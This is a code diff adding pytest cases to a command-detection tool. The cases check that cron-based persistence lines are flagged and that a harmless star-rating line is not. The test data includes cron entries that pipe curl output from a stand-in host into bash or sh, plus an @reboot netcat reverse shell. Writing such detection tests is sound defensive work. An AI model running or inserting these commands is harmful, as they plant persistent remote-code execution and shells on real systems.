@@ -952,3 +952,19 @@ def test_more_destructive_commands(text: str) -> None:
 )
 def test_everyday_deletes_are_not_destructive(text: str) -> None:
     assert "cmd.destructive" not in ids(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "*/5 * * * * curl -s http://x.example/p | bash",
+        '(crontab -l; echo "* * * * * curl -s http://x.example/a.sh | sh") | crontab -',
+        "@reboot nc x.example 4444 -e /bin/sh",
+    ],
+)
+def test_cron_entries_are_found_where_cron_lines_start(text: str) -> None:
+    assert "cmd.persistence" in ids(text)
+
+
+def test_a_markdown_list_of_stars_is_not_a_cron_entry() -> None:
+    assert "cmd.persistence" not in ids("Rating: * * * * * and then curl the API as usual")
